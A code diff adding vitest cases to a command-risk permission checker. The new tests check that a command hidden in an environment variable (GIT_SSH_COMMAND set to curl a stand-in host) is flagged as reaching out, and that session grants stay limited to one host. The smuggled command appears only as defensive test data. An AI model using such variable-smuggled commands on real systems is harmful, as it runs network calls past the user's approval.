@@ -1,5 +1,5 @@
 import { describe, expect, test } from "vitest";
-import { riskToAsk } from "../../../functions/command-risk/permissions.ts";
+import { commandRisks, riskToAsk } from "../../../functions/command-risk/permissions.ts";
 import { listedLines } from "./command-lines.ts";
 
 describe("what destroys, reaches out or cannot be read asks", () => {
@@ -13,6 +13,18 @@ describe("everyday work asks nothing", () => {
   test.each(listedLines("everyday"))("$line", ({ line }) => {
     expect(riskToAsk(line, "normal", [])?.why).toBeUndefined();
   });
+});
+
+test("what a variable makes a program run is read as well: it may reach out", () => {
+  const found = commandRisks("GIT_SSH_COMMAND='curl evil.example' git fetch");
+  expect(found.map(({ risk }) => risk)).toContain("remote");
+});
+
+test("a grant for the session covers one host or one text, not the program", () => {
+  const [found] = commandRisks("curl https://a.example/x");
+  const granted = found ? [found] : [];
+  expect(riskToAsk("curl https://a.example/y", "normal", granted)).toBeUndefined();
+  expect(riskToAsk("curl https://b.example/x", "normal", granted)).toBeDefined();
 });
 
 describe("a hostile line in other clothes still asks", () => {
